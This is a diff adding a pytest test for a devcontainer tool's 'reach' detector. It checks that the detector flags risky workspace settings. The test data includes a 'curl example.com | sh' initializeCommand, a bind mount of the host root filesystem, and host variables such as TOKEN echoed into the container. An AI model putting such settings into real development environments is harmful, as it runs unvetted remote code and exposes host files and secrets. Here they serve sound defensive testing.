@@ -7,12 +7,14 @@ from dataclasses import replace
 import pytest
 
 from devenv import yamlio
+from devenv.kinds import runtimes
 from devenv.model.machine import Machine
 from devenv.model.observed import Engine, Observed
 from devenv.model.resolved import ResolvedService
 from devenv.stages.plan_up import service_steps
-from devenv.stages.reach import reach, reach_of_file
-from tests.making import resolved
+from devenv.stages.reach import reach, reach_of_file, reach_of_workspace
+from devenv.stages.workspaces import wanted
+from tests.making import manifest, resolved
 from tests.test_catalog import KINDS, services
 
 
@@ -138,3 +140,25 @@ def test_a_compose_file_that_asks_for_nothing(text: str) -> None:
 )
 def test_what_has_another_shape_is_asked_for(text: str, key: str) -> None:
     assert [*reach_of_file(yamlio.parse(text))] == [key]
+
+
+def test_what_a_workspace_asks_for() -> None:
+    text = """\
+[devcontainer]
+forwardPorts = [8000]
+initializeCommand = "curl example.com | sh"
+mounts = ["source=/,target=/host,type=bind"]
+post_create = ["echo ${localEnv:TOKEN}"]
+[devcontainer.remoteEnv]
+HOME_OF = "${localEnv:HOME}"
+[devcontainer.customizations.vscode]
+extensions = ["ms-python.python"]
+"""
+    (workspace,) = wanted(manifest(text), runtimes())
+    assert reach_of_workspace(workspace) == (
+        "initializeCommand: curl example.com | sh",
+        'mounts: ["source=/,target=/host,type=bind"]',
+        "variables of this machine: HOME, TOKEN",
+    )
+    (plain,) = wanted(manifest("[devcontainer]\n"), runtimes())
+    assert reach_of_workspace(plain) == ()
